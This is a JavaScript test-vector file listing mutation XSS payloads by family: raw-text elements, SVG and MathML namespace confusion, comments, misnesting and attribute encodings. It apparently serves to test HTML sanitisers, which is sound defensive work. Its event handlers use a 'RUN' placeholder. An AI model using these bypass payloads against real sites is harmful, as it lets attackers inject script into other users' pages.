// Markup that means one thing when it is read and another when it is written and read again: the
// families of mutation XSS. The attack is dormant in an attribute or a text, and wakes when an
// element that was raw text, or of another namespace, or misnested, is not any more.
const image = '<img src=x onerror=RUN>';
const dormant = (end) => `<p title="${end}${image}">words</p>`;

const rawText = ['noscript', 'noembed', 'noframes', 'iframe', 'xmp', 'textarea', 'title', 'style']
  .concat(['plaintext', 'listing', 'script', 'template', 'select', 'option', 'object'])
  .map((name) => [`end of ${name} in an attribute`, `<${name}>${dormant(`</${name}>`)}</${name}>`]);

const rawTextInForeign = [
  'style',
  'xmp',
  'noscript',
  'iframe',
  'title',
  'textarea',
  'noembed',
].flatMap((name) => [
  [`${name} in SVG`, `<svg><${name}>${dormant(`</${name}>`)}</${name}></svg>`],
  [`${name} in MathML`, `<math><${name}>${dormant(`</${name}>`)}</${name}></math>`],
  [`${name} in a text of MathML`, `<math><mtext><${name}>${dormant(`</${name}></math>`)}`],
]);

const namespaces = [
  [
    'nested forms around MathML',
    `<form><math><mtext></form><form><mglyph><style></math>${image}</style></mglyph></mtext></math>`,
  ],
  [
    'nested forms around SVG',
    `<form><svg><desc></form><form><style></svg>${image}</style></desc></svg>`,
  ],
  [
    'nested forms in a division',
    `<form><div></form><form><math><mtext><mglyph><svg><mtext><style><path id="</style>${image}">`,
  ],
  ['paragraph in a description', `<svg></p><style><a id="</style>${image}">`],
  ['end of a paragraph in MathML', `<math></p><style><a title="</style>${image}"></style></math>`],
  ['end of a line in SVG', `<svg></br><style><a title="</style>${image}"></style></svg>`],
  [
    'table between MathML and SVG',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image}">`,
  ],
  [
    'table, glyph and SVG',
    `<math><mtext><table><mglyph><svg><mtext><style><path id="</style>${image}"></table>`,
  ],
  [
    'glyph and style with a comment',
    `<math><mtext><mglyph><style><!--</style><a title="--></style>${image}">`,
  ],
  ['mark and style', `<math><mtext><malignmark><style><a title="</style>${image}">`],
  [
    'SVG in an annotation',
    `<math><annotation-xml encoding="text/html"><svg><style><a title="</style>${image}">`,
  ],
  [
    'annotation in SVG',
    `<svg><annotation-xml><foreignObject><style><!--</style><p id="--><img src=x onerror=RUN>">`,
  ],
  [
    'foreign object in MathML',
    `<math><foreignObject><style><a title="</style>${image}"></foreignObject></math>`,
  ],
  [
    'description of SVG in HTML',
    `<svg><desc><svg><style><a title="</style>${image}"></style></svg></desc></svg>`,
  ],
  ['title of SVG', `<svg><title><svg><style><a title="</style></title></svg>${image}"></style>`],
  [
    'font that breaks out only with attributes',
    `<svg><font><style><a title="</style>${image}"></font></svg>`,
  ],
  ['font that breaks out', `<svg><style><font color=red><a title="</style>${image}"></font></svg>`],
  [
    'image that becomes another element',
    `<svg><image><style><a title="</style>${image}"></image></svg>`,
  ],
  ['CDATA section', `<svg><![CDATA[<p title="]]>${image}">]]></svg>`],
  ['CDATA section in MathML', `<math><mtext><![CDATA[</mtext>]]>${image}</math>`],
  [
    'CDATA outside of SVG',
    `<div><![CDATA[${image}]]></div><svg></p><![CDATA[><a title="]]>${image}">`,
  ],
  [
    'processing instruction in SVG',
    `<svg><?x ${image} ?><style><a title="</style>${image}"></svg>`,
  ],
  [
    'selected content of a select',
    `<select><template><style><!--</style><a title="--></select>${image}">`,
  ],
  [
    'select in a table',
    `<table><select><tr><td><svg><style><a title="</style>${image}"></select></table>`,
  ],
  ['keygen in a select', `<select><keygen><svg><style>${image}</style></svg></select>`],
];

const comments = [
  ['comment that ends at once', `<!-->${image}-->`],
  ['comment that ends with a dash', `<!--->${image}-->`],
  ['comment that ends with an exclamation mark', `<!-- --!>${image}-->`],
  ['comment that ends with blanks', `<!-- -- >${image}-->`],
  ['comment in a comment', `<!-- <!-- --> ${image} -->`],
  ['comment without an end', `<!-- ${image}`, { swallows: true }],
  ['comment with a dash too few', `<!-- -> ${image}`, { swallows: true }],
  ['comment of one dash', `<!- ${image} ->`],
  ['comment with an end in an attribute', `<!--<p title="-->${image}">-->`],
  ['conditional comment', `<!--[if IE]>${image}<![endif]-->`],
  ['conditional comment that is shown', `<!--[if !IE]><!-->${image}<!--<![endif]-->`],
  ['declaration', `<!x ${image}>`],
  ['declaration with a quote', `<!x ">${image}">`],
  ['doctype with a quote', `<!DOCTYPE html "><img src=x onerror=RUN>">`],
  ['element declaration', `<!ELEMENT x "${image}">`],
  ['processing instruction', `<? x="${image}" ?>`],
  ['processing instruction of PHP', `<?php echo '${image}'; ?>`],
  ['server tag', `<% ${image} %>`],
  ['end tag that is a comment', `</ ${image}>`],
  ['end tag with a digit', `</1 ${image}>`],
  ['comment in a style', `<style><!-- </style>${image} --></style>`],
  ['comment in a script', `<script><!-- </script>${image} --></script>`],
  ['comment in a title', `<title><!-- </title>${image} --></title>`],
  ['comment in a table', `<table><!--><tr>${image}--></table>`],
];

const nesting = [
  ['table that fosters', `<table>${image}<tr>${image}<td>a</td></tr>${image}</table>`],
  [
    'table that fosters a link',
    `<table><a href="javascript:RUN"><tr><td>words</td></tr></a></table>`,
  ],
  ['table in a table', `<table><table><td>${image}<table>${image}</table></table></table>`],
  ['caption in a caption', `<table><caption><caption>${image}</caption></caption></table>`],
  ['column group', `<table><colgroup>${image}<col onclick=RUN></colgroup></table>`],
  ['cells without a table', `<td>${image}</td><tr onclick=RUN><tbody>${image}</tbody>`],
  ['paragraph in a heading', `<h2><p>${image}</h2></p>`],
  ['formatting that crosses', `<b><p><i>a</b>${image}</i></p><b>${image}</b>`],
  ['formatting many times', `${'<b><i><u>'.repeat(60)}${image}${'</b></i></u>'.repeat(60)}`],
  ['link in a link', `<a href="#a"><p><a href="javascript:RUN">${image}</a></p></a>`],
  ['link across a table', `<a href="#x"><table><a href="javascript:RUN"><td>${image}</table>`],
  ['button in a button', `<button><button onclick=RUN>${image}</button></button>`],
  ['nobr in a nobr', `<nobr><nobr>${image}</nobr></nobr>`],
  ['body in a paragraph', `<p><body onload=RUN>${image}</body></p>`],
  ['head in a body', `<p>a</p><head><script>RUN</script></head>`],
  ['html in a division', `<div><html onclick=RUN><body onload=RUN>${image}</div>`],
  ['ruby that is misnested', `<ruby><rt><ruby>${image}<rp>${image}</ruby></rt></ruby>`],
  ['definition that is misnested', `<dl><dd><dt><p><dd>${image}</dl>`],
  ['list that is misnested', `<li><ul><li><p></li>${image}</ul></li>`],
  ['details that are misnested', `<summary><details>${image}<summary>${image}</summary>`],
  ['template in a template', `<template><template>${image}</template></template>`],
  ['template in SVG', `<svg><template><style><a title="</style>${image}"></template></svg>`],
  ['template that is a shadow', `<p><template shadowrootmode=open>${image}</template></p>`],
  ['template that is a frame', `<template><frameset onload=RUN><frame></frameset></template>`],
  ['plain text that never ends', `<plaintext>${image}`],
  ['plain text that ends', `<plaintext>${image}</plaintext>${image}`],
  ['preformatted with a line break', `<pre>\n\n${image}</pre><listing>\n${image}</listing>`],
  ['deep nesting', `${'<div>'.repeat(600)}${image}`],
  [
    'deep nesting with a dormant attack',
    `${'<div>'.repeat(520)}<svg><style><a title="</style>${image}">`,
  ],
  ['deep nesting of SVG', `${'<svg>'.repeat(520)}<style><a title="</style>${image}">`],
  ['deep nesting of quotes', `${'<blockquote>'.repeat(600)}${image}`],
  ['deep nesting of fonts', `${'<font>'.repeat(600)}<script>RUN</script>${image}`],
  ['deep nesting of lists', `${'<ul><li>'.repeat(300)}${image}`],
  ['deep nesting of tables', `${'<table><tr><td>'.repeat(150)}${image}`],
];

const attributes = [
  ['backtick in an attribute', '<img alt="``onerror=RUN" src="x">'],
  ['backtick before a handler', '<p title="`a` onclick=RUN">words</p>'],
  ['entity of a bracket', '<p title="&lt;img src=x onerror=RUN&gt;">words</p>'],
  ['bracket in an attribute of SVG', '<svg><p title="<img src=x onerror=RUN>">words</svg>'],
  ['text that is markup', '&lt;img src=x onerror=RUN&gt;'],
  ['text that is markup twice', '&amp;lt;img src=x onerror=RUN&amp;gt;'],
  [
    'text that is markup in a textarea',
    '<textarea>&lt;/textarea&gt;&lt;img src=x onerror=RUN&gt;</textarea>',
  ],
  ['text that is markup in a noscript', '<noscript>&lt;img src=x onerror=RUN&gt;</noscript>'],
  ['no-break space that is lost', '<p title="\u00a0<img src=x onerror=RUN>">words</p>'],
  ['is attribute', '<p is="x-a" onclick=RUN>words</p>'],
  ['srcdoc of entities', '<iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;"></iframe>'],
  [
    'srcdoc of entities twice',
    '<iframe srcdoc="&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;"></iframe>',
  ],
];

export const mutations = [
  ...rawText,
  ...rawTextInForeign,
  ...namespaces,
  ...comments,
  ...nesting,
  ...attributes,
];
